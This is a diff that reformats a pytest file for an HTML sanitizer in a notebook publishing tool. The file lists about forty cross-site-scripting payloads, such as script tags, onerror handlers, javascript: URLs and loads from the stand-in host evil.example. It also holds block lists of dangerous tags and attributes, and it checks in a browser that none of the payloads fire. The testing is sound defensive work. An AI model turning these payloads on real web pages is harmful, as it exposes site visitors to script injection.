@@ -10,32 +10,57 @@ from briefs.render.markdown import plain
 
 #: Known attacks: what a browser would run, load, submit or follow.
 ATTACKS = [
-    "<script>alert(1)</script>", "<ScRiPt src=https://evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
-    "<img src='https://evil.example/pixel.png'>", "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>",
+    "<script>alert(1)</script>",
+    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/pixel.png'>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg onload=alert(1)>",
     "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
     "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
-    "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
-    "<object data=https://evil.example></object>", "<embed src=https://evil.example>",
+    "<iframe src=https://evil.example></iframe>",
+    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
+    "<object data=https://evil.example></object>",
+    "<embed src=https://evil.example>",
     "<form action=https://evil.example><input autofocus onfocus=alert(1)><button formaction='javascript:alert(1)'>b",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
-    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>",
-    "<p style='background:url(https://evil.example/x)'>styled</p>", "<div style=position:fixed;inset:0>over all</div>",
-    "<a href='javascript:alert(1)'>link</a>", "<a href='jAvA\tscript:alert(1)'>tab</a>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<p style='background:url(https://evil.example/x)'>styled</p>",
+    "<div style=position:fixed;inset:0>over all</div>",
+    "<a href='javascript:alert(1)'>link</a>",
+    "<a href='jAvA\tscript:alert(1)'>tab</a>",
     "<a href='&#106;&#97;vascript&colon;alert(1)'>entities</a>",
     "<a href='data:text/html,<script>alert(1)</script>'>d</a>",
-    "<a href=//evil.example>no scheme</a>", "<details open ontoggle=alert(1)>d</details>",
-    "<video><source onerror=alert(1)></video>", "<math><mtext></table><img src=x onerror=alert(1)></math>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea><script>alert(1)</script>",
+    "<a href=//evil.example>no scheme</a>",
+    "<details open ontoggle=alert(1)>d</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><mtext></table><img src=x onerror=alert(1)></math>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea><script>alert(1)</script>",
     "<table background=https://evil.example/x><td background=https://evil.example/y>cell",
     "<!--><script>alert(1)</script>",
-    "</td></tr></table></div></main><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;", "<body onload=alert(1)>", "<marquee onstart=alert(1)>m</marquee>",
-    "<a id=main name=main href=#x>clobber</a>", "<plaintext>rest", "<xmp><script>alert(1)</script></xmp>",
+    "</td></tr></table></div></main><script>alert(1)</script>",
+    "<template><script>alert(1)</script></template>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>m</marquee>",
+    "<a id=main name=main href=#x>clobber</a>",
+    "<plaintext>rest",
+    "<xmp><script>alert(1)</script></xmp>",
 ]
 ALL = "\n".join(ATTACKS)
-URLS = ["javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)",
-        "data:text/html,<script>alert(1)</script>",
-    "//evil.example", "file:x", "https://ok.example/\"onmouseover=\"alert(1)", "vbscript:x"]
+URLS = [
+    "javascript:alert(1)",
+    "JAVASCRIPT:alert(1)",
+    " javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "//evil.example",
+    "file:x",
+    'https://ok.example/"onmouseover="alert(1)',
+    "vbscript:x",
+]
 
 
 def html(text, **more):
@@ -55,8 +80,10 @@ def test_a_table_keeps_what_a_reader_needs():
 
 
 def test_the_same_content_is_a_tree_for_the_pdf():
-    safe = sanitize.clean("<p>Before <b>bold</b></p><table><tr><th>a<th>b<tr><th>r<td>1<tr><td>2</table>after "
-                          "<a href='https://ok.example'>link</a><ul><li>one<li>two</ul>")
+    safe = sanitize.clean(
+        "<p>Before <b>bold</b></p><table><tr><th>a<th>b<tr><th>r<td>1<tr><td>2</table>after "
+        "<a href='https://ok.example'>link</a><ul><li>one<li>two</ul>"
+    )
     first, table, *rest = sanitize.nodes(safe)
     assert plain([first]) == "Before bold"
     assert [plain(cell) for cell in table["head"]] == ["a", "b"]
@@ -71,9 +98,29 @@ def test_an_attack_leaves_nothing_active(attack):
     assert sanitize.clean(safe) == safe
     lower = safe.lower()
     assert "<p>before</p>" in lower
-    for bad in ("<script", "<img", "<svg", "<iframe", "<form", "<input", "<style", "<meta", "<base", "<link", "<object",
-                "<embed", "<math", "<video", "<template", 'href="j', 'href="d', 'href="/', 'href="#', " style=",
-                " id="):
+    for bad in (
+        "<script",
+        "<img",
+        "<svg",
+        "<iframe",
+        "<form",
+        "<input",
+        "<style",
+        "<meta",
+        "<base",
+        "<link",
+        "<object",
+        "<embed",
+        "<math",
+        "<video",
+        "<template",
+        'href="j',
+        'href="d',
+        'href="/',
+        'href="#',
+        " style=",
+        " id=",
+    ):
         assert bad not in lower, attack
     assert "evil.example" not in lower or "<a" not in lower
 
@@ -81,20 +128,37 @@ def test_an_attack_leaves_nothing_active(attack):
 def test_html_of_a_cell_is_published_in_a_region_of_its_own(sample):
     cells = sample.cells()
     frame = pd.DataFrame({"price": [1.5]})
-    cells.insert(-2, sample.code("frame", sample.output("execute_result", html(frame.to_html()), execution_count=3)))
+    cells.insert(
+        -2,
+        sample.code(
+            "frame", sample.output("execute_result", html(frame.to_html()), execution_count=3)
+        ),
+    )
     named = html("<table><caption>Named</caption><td>1</table>")
     cells.insert(-2, sample.code("y", sample.output("display_data", named)))
     made = document.build(sample.read(cells))
     page = exporters.render_html(made)
-    assert '<div class="scroll" role="region" tabindex="0" aria-label="Further table 1"><table>' in page
+    assert (
+        '<div class="scroll" role="region" tabindex="0" aria-label="Further table 1"><table>'
+        in page
+    )
     assert 'role="region" tabindex="0" aria-label="Named"' in page
     assert exporters.render_pdf(made).startswith(b"%PDF")
 
 
-@pytest.mark.parametrize("data", [
-    html("<script>alert(1)</script>"), html("<img src=x>"), html(" <style>p{}</style> "),
-    {"text/vnd.mermaid": "graph TD; </pre><script>alert(1)</script>", "text/plain": "x"},
-    {"application/javascript": "alert(1)"}, {"text/plain": "x"}, {"image/png": "x"}, {"text/latex": "$x$"}])
+@pytest.mark.parametrize(
+    "data",
+    [
+        html("<script>alert(1)</script>"),
+        html("<img src=x>"),
+        html(" <style>p{}</style> "),
+        {"text/vnd.mermaid": "graph TD; </pre><script>alert(1)</script>", "text/plain": "x"},
+        {"application/javascript": "alert(1)"},
+        {"text/plain": "x"},
+        {"image/png": "x"},
+        {"text/latex": "$x$"},
+    ],
+)
 def test_what_has_nothing_to_show_fails_and_names_the_cell(sample, data):
     nb = sample.read([*sample.cells(), sample.code("bad()", sample.output("display_data", data))])
     with pytest.raises(PublishError, match=r"cell 18 \('bad\(\)'\): shows"):
@@ -105,24 +169,60 @@ def attacked(sample):
     """The sample notebook with every attack by every way in."""
     cells = sample.cells()
     parameters = [{"name": f"p{i}", "value": a, "meaning": a} for i, a in enumerate(ATTACKS)]
-    cells[1] = sample.code(ALL, sample.shown({
-        **sample.BRIEF, "title": ATTACKS[0], "subtitle": ATTACKS[2], "parameters": parameters}))
+    cells[1] = sample.code(
+        ALL,
+        sample.shown(
+            {**sample.BRIEF, "title": ATTACKS[0], "subtitle": ATTACKS[2], "parameters": parameters}
+        ),
+    )
     finding = {**sample.SMALL, "id": "attack", "text": ALL, "headline": True}
-    table = {**sample.TABLE, "id": "attacks", "title": ATTACKS[0], "subtitle": ALL, "note": ALL,
-             "columns": [{**c, "label": ATTACKS[2]} for c in sample.TABLE["columns"]],
-             "rows": [[a, 2020, 1, 1, a] for a in ATTACKS]}
-    verdict = sample.verdict("cost-8", "unresolved", ALL, **dict.fromkeys(
-        ("reason", "quantity", "said_by", "outlet", "attribution", "interest", "rule", "would_change"), ALL))
+    table = {
+        **sample.TABLE,
+        "id": "attacks",
+        "title": ATTACKS[0],
+        "subtitle": ALL,
+        "note": ALL,
+        "columns": [{**c, "label": ATTACKS[2]} for c in sample.TABLE["columns"]],
+        "rows": [[a, 2020, 1, 1, a] for a in ATTACKS],
+    }
+    verdict = sample.verdict(
+        "cost-8",
+        "unresolved",
+        ALL,
+        **dict.fromkeys(
+            (
+                "reason",
+                "quantity",
+                "said_by",
+                "outlet",
+                "attribution",
+                "interest",
+                "rule",
+                "would_change",
+            ),
+            ALL,
+        ),
+    )
     words = dict.fromkeys(("publisher", "title", "note", "license"), ALL)
     sources = [{**item, **words} for item in sample.SOURCES["items"]]
     sources += [{**sources[0], "source_id": f"u{i}", "url": url} for i, url in enumerate(URLS)]
     cells[-1] = sample.code("s", sample.shown({**sample.SOURCES, "items": sources}))
     cells[-1:-1] = [
-        sample.markdown("## Attacks\n\n" + "\n\n".join(ATTACKS) + "\n\n| a |\n|--|\n" + "".join(
-            f"| {a.replace('|', '')} |\n" for a in ATTACKS) + "".join(f"\n[x{i}](<{u}>)" for i, u in enumerate(URLS))),
-        sample.code("a", sample.shown(finding)), sample.code("b", sample.shown(table)),
+        sample.markdown(
+            "## Attacks\n\n"
+            + "\n\n".join(ATTACKS)
+            + "\n\n| a |\n|--|\n"
+            + "".join(f"| {a.replace('|', '')} |\n" for a in ATTACKS)
+            + "".join(f"\n[x{i}](<{u}>)" for i, u in enumerate(URLS))
+        ),
+        sample.code("a", sample.shown(finding)),
+        sample.code("b", sample.shown(table)),
         sample.code("c", sample.shown(verdict)),
-        *(sample.code("d", sample.output("display_data", html(f"<p>shown</p>{a}"))) for a in ATTACKS)]
+        *(
+            sample.code("d", sample.output("display_data", html(f"<p>shown</p>{a}")))
+            for a in ATTACKS
+        ),
+    ]
     return sample.read(cells)
 
 
@@ -139,7 +239,9 @@ def listen(page):
 @pytest.mark.browser
 def test_no_attack_does_anything_in_a_browser(browser, sample, tmp_path):
     file = tmp_path / "attacked.html"
-    file.write_text(exporters.render_html(document.build(attacked(sample))), encoding="utf-8", newline="")
+    file.write_text(
+        exporters.render_html(document.build(attacked(sample))), encoding="utf-8", newline=""
+    )
     # once under the page's policy, and once without it: what is written must be harmless by itself
     for bypass in (False, True):
         context = browser.new_context(bypass_csp=bypass)
@@ -153,13 +255,36 @@ def test_no_attack_does_anything_in_a_browser(browser, sample, tmp_path):
         assert heard == [file.as_uri()]
         assert page.evaluate("document.title").startswith(ATTACKS[0])
         assert page.locator("h1").inner_text() == ATTACKS[0]
-        tags = page.evaluate("[...new Set([...document.body.querySelectorAll('*')].map(e => e.localName))]")
-        assert not {"script", "img", "iframe", "object", "embed", "form", "input", "style", "meta", "base", "link",
-                    "video", "template", "foreignObject"} & set(tags)
-        links = page.evaluate("[...document.querySelectorAll('body a')].map(a => a.getAttribute('href') ?? '')")
-        assert {link.split(":")[0] for link in links if link and not link.startswith("#")} <= {"https", "data"}
+        tags = page.evaluate(
+            "[...new Set([...document.body.querySelectorAll('*')].map(e => e.localName))]"
+        )
+        assert not {
+            "script",
+            "img",
+            "iframe",
+            "object",
+            "embed",
+            "form",
+            "input",
+            "style",
+            "meta",
+            "base",
+            "link",
+            "video",
+            "template",
+            "foreignObject",
+        } & set(tags)
+        links = page.evaluate(
+            "[...document.querySelectorAll('body a')].map(a => a.getAttribute('href') ?? '')"
+        )
+        assert {link.split(":")[0] for link in links if link and not link.startswith("#")} <= {
+            "https",
+            "data",
+        }
         assert all(link.startswith("data:text/csv") for link in links if link.startswith("data:"))
-        names = page.evaluate("[...document.body.querySelectorAll('*')].flatMap(e => e.getAttributeNames())")
+        names = page.evaluate(
+            "[...document.body.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
+        )
         assert not [name for name in names if name.startswith("on")]
         assert not {"style", "src", "srcdoc", "action", "formaction"} & set(names)
         context.close()
@@ -167,6 +292,10 @@ def test_no_attack_does_anything_in_a_browser(browser, sample, tmp_path):
 
 def test_the_records_keep_what_the_page_refuses(sample):
     nb = attacked(sample)
-    records = [output["data"][MIME] for cell in nb.cells for output in cell.get("outputs", ())
-               if MIME in output.get("data", {})]
+    records = [
+        output["data"][MIME]
+        for cell in nb.cells
+        for output in cell.get("outputs", ())
+        if MIME in output.get("data", {})
+    ]
     assert document.build(nb)["records"] == records
